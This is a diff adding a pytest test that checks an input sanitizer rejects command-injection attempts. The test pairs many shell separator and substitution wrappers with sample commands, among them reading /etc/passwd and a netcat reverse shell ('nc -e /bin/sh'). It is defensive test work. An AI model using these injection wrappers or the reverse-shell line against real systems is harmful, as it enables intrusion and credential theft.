@@ -70,6 +70,27 @@ def test_what_a_shell_or_a_browser_acts_upon_is_no_name_twice_in_a_row(text: str
             sanitize_input(text)
 
 
+# What is put behind a value, before it or around it to make a shell run it: (before, behind) a program.
+AROUND = [
+    *(("& ", ""), ("&", ""), ("x &", ""), ("x& ", ""), ("x&", ""), ("1 & ", ""), ("127.0.0.1 & ", ""), ("x && ", "")),
+    *(("& ", " &"), ("x & ", " &"), ("", " &"), ("", "&"), ("x &", "&"), ("'x' &", ""), (") &", ""), ("x & & ", "")),
+    *((";", ""), ("x;", ";"), ("x ; ", ""), ("|", ""), ("x | ", ""), ("x || ", ""), ("x|&", ""), ("\n", ""), ("x\r\n", "")),
+    *(("`", "`"), ("$(", ")"), ("x$(", ")"), ("x<(", ")"), ("x>(", ")"), ("{", ",}"), ("x > ", ""), ("x<", ""), ("$", "")),
+    *(("%0a", ""), ("x%26", ""), ("%", "%"), ("x%", "%"), ("5 %", ""), ("5%%", ""), ("^", ""), ("!", ""), ("x!", ""), ("!?", "?")),
+    *(("/bin/", ""), ("x /bin/", ""), ("../", ""), ("./", ""), ("//", ""), ("x / / ", ""), ("/b?n/", ""), ("\\\\x\\", "")),
+    *(("&#38;", ""), ("&amp;", ""), ("x&#38 ", ""), ("x&lt ", ""), ("x&", ";"), ("http://x/?q=", ""), ("x?y=", ""), ("?", "")),
+    *(("$(IFS)", ""), ("x${IFS}", ""), ("-x ", ""), ("--x=", ""), ("x' -- ", ""), ("x'/**/", ""), ("~", ""), ("*", ""), ("＄", "")),
+]  # fmt: skip
+PROGRAMS = ["id", "whoami", "ls -la", "sleep 5", "ping -c 10 127.0.0.1", "cat /etc/passwd", "nc -e /bin/sh 10.0.0.1 9", "ver"]
+
+
+@pytest.mark.parametrize(("before", "behind"), AROUND)
+def test_no_way_to_begin_a_command_passes_as_a_name(before: str, behind: str) -> None:
+    for program in PROGRAMS:
+        with pytest.raises(InvalidInput):
+            sanitize_input(f"{before}{program}{behind}")
+
+
 @pytest.mark.parametrize("check", [check_name, check_text, check_argument])
 @pytest.mark.parametrize(
     "text",
